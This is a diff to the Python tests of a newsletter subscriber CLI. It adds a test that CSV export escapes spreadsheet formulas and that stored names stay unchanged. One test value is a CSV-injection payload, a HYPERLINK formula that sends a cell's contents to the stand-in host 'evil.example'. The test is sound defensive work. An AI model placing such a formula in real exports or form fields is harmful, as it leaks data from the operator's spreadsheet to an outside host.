@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 from sqlalchemy import func, select
 
 from newsletter.core.db.models import Subscriber
 from newsletter.core.db.session import transaction
-from tests.support.cli import fails, ok
+from newsletter.subscribers.formats import safe_cell
+from tests.support.cli import fails, ok, partial
 
 
 def test_subscribers_add_list_export_remove(labor, sent, tmp_path) -> None:
@@ -42,11 +45,42 @@ def test_subscribers_add_list_export_remove(labor, sent, tmp_path) -> None:
 def test_subscribers_import(labor, sent, tmp_path) -> None:
     path = tmp_path / "people.csv"
     path.write_text("email,name\na@example.com,A\n\nbad,B\na@example.com,A2\n", encoding="utf-8")
-    output = ok("subscribers", "import", str(path), "--series", labor, "--confirmed")
+    # Rows were skipped: the good one is imported, and the exit code says it was partial.
+    output = partial("subscribers", "import", str(path), "--series", labor, "--confirmed")
     assert "line 3: empty line" in output and "line 4: invalid email" in output
     assert "line 5: duplicate of line 2" in output and "imported 1, skipped 3" in output
+    assert "3 row(s) skipped" in output
     path.write_bytes(b"email\n\xff@example.com\n")
     assert "not UTF-8" in fails("subscribers", "import", str(path), "--series", labor)
     path.write_text("email\nz@example.com\n", encoding="utf-8")
     output = ok("subscribers", "import", str(path), "--series", labor)
     assert "imported 1, skipped 0, 1 confirmation mails queued" in output and len(sent) == 1
+
+
+def test_export_neutralises_spreadsheet_formulas_but_stores_names_as_typed(labor, sent) -> None:
+    """A name typed into the public form must not run as a formula in the operator's
+    spreadsheet (OWASP CSV injection); the database keeps exactly what was typed."""
+    evil = '=HYPERLINK("http://evil.example/?leak="&B2,"Click")'
+    names = [evil, "+1 234", "-x", "@SUM(1)", "Ann"]
+    for i, name in enumerate(names):
+        ok("subscribers", "add", f"p{i}@example.com", "--series", labor, "--name", name)
+    rows = list(csv.DictReader(io.StringIO(ok("subscribers", "export", "--format", "csv"))))
+    exported = {row["email"]: row["name"] for row in rows}
+    assert exported["p0@example.com"] == "'" + evil
+    assert [exported[f"p{i}@example.com"] for i in range(1, 5)] == [
+        "'+1 234",
+        "'-x",
+        "'@SUM(1)",
+        "Ann",
+    ]
+    # Names cannot start with a tab or CR (they are trimmed), but other cells might.
+    assert [safe_cell(v) for v in ("\tx", "\rx", "x=1", 5, None)] == [
+        "'\tx",
+        "'\rx",
+        "x=1",
+        5,
+        None,
+    ]
+    with transaction() as session:
+        stored = session.scalar(select(Subscriber.name).where(Subscriber.email == "p0@example.com"))
+    assert stored == evil
